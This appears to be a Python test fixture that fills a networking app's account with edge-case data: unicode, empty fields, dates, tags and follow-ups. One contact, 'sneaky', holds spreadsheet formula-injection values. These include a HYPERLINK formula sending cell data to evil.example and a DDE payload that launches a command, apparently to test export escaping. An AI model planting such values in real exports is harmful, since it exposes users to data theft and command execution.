"""An account with something in every model and every field: unicode, empty values, nulls, dates and times."""

import uuid
from datetime import date, time
from datetime import datetime as at

from webapp import db
from webapp.models import Conversation, Event, FollowUp, Outcome, Person, Tag, User

NOTES_WITH_PUNCTUATION = ('Talked about CRDTs, "local-first"; wants an intro to Sam.\n'
                          "Second line, with a comma\n\tand a tab")


def account(email="ada@example.com"):
    with db.database().connection_context():
        return User.get(User.email == email)


def fill(user_id):
    """Two events, four people (one met at both), tags, follow-ups in every state, outcomes. Returns ids."""
    with db.database().connection_context(), db.write():
        User.update(display_name="Ada Lovelace ✨", headline="Engineer, analyst; poet",
                    linkedin_url="https://www.linkedin.com/in/ada/", timezone="Europe/London",
                    created_at=at(2025, 1, 2, 3, 4, 5, 678901)).where(User.id == user_id).execute()
        pydata = Event.create(
            owner=user_id, name="PyData Berlin: Dezember, Käse & Pizza", starts_on=date(2026, 12, 3),
            start_time=time(18, 30), end_time=time(21, 45, 30), ends_on=date(2026, 12, 4),
            timezone="Europe/Berlin", place="Valeska-Gert-Straße 5, Berlin", kind="meetup",
            link="https://www.meetup.com/pydata-berlin/events/301234567/",
            description="Zwei Vorträge\nDoors at 18:30; talks, then pizza", goal=5,
            goal_note="find who is hiring",
            ics_uid="event_301234567@meetup.com", created_at=at(2026, 11, 1, 9, 0, 0, 1))
        tokyo = Event.create(owner=user_id, name="東京 Rust 勉強会", starts_on=date(2026, 1, 15),
                             kind="industry", goal=1, created_at=at(2026, 1, 1, 12, 0))
        bruce = Person.create(owner=user_id, name="李小龍", company="Golden Harvest, Ltd.",
                              role="CTO; founder",
                              email="bruce@example.com", phone="+852 2345 6789",
                              linkedin_url="https://www.linkedin.com/in/bruce-lee/",
                              hiring=True, connected_on_linkedin=True,
                              created_at=at(2026, 1, 15, 19, 0, 0, 123456))
        zoe = Person.create(owner=user_id, name="Zoë Ægirsdóttir", description="red jacket, Postgres talk",
                            company="Ørsted", role="Data engineer", created_at=at(2026, 12, 3, 19, 5))
        nameless = Person.create(owner=user_id, description="tall guy; asked about \"sync\", Kotlin",
                                 created_at=at(2026, 12, 3, 20, 0))
        sneaky = Person.create(owner=user_id, name='=HYPERLINK("http://evil.example/?"&A1,"click")',
                               company="+1 (555) 0100", role="-2+3", email="@attacker",
                               created_at=at(2026, 12, 3, 20, 30))
        Conversation.create(uuid=uuid.UUID("0f8b7c2e-1111-4a4a-9c9c-123456789abc"), person=bruce, event=tokyo,
                            notes="Rust in games", created_at=at(2026, 1, 15, 19, 1))
        Conversation.create(person=bruce, event=pydata, notes=NOTES_WITH_PUNCTUATION,
                            created_at=at(2026, 12, 3, 19, 0))
        Conversation.create(person=zoe, event=pydata, notes="Ørsted is hiring; ask Zoë about Kafka",
                            created_at=at(2026, 12, 3, 19, 6))
        Conversation.create(person=nameless, event=pydata, notes="", created_at=at(2026, 12, 3, 20))
        Conversation.create(person=sneaky, event=pydata, notes="@SUM(1+1)*cmd|' /C calc'!A0",
                            created_at=at(2026, 12, 3, 20, 31))
        bruce.set_tags(["rust", "founder", "日本語"])
        zoe.set_tags(["data", "hiring-manager"])
        Tag.create(owner=user_id, name="unused tag")
        FollowUp.create(person=bruce, event=pydata, reason="send the article on CDC, then intro to Sam",
                        due_on=date(2026, 12, 5), created_at=at(2026, 12, 3, 19, 2))
        FollowUp.create(person=zoe, event=pydata, reason="Kafka talk slides", due_on=date(2026, 12, 5),
                        done_on=date(2026, 12, 6))
        FollowUp.create(person=nameless, event=None, reason="", due_on=date(2026, 12, 7),
                        dropped_on=date(2026, 12, 8))
        Outcome.create(person=bruce, kind="job_lead", happened_on=date(2027, 2, 1),
                       text="Offer to lead the data team — “dream job”",
                       created_at=at(2027, 2, 1, 8, 0))
        Outcome.create(person=zoe, kind="friendship", happened_on=date(2027, 3, 1), text="")
        return {"pydata": pydata.id, "tokyo": tokyo.id, "bruce": bruce.id, "zoe": zoe.id,
                "nameless": nameless.id, "sneaky": sneaky.id}
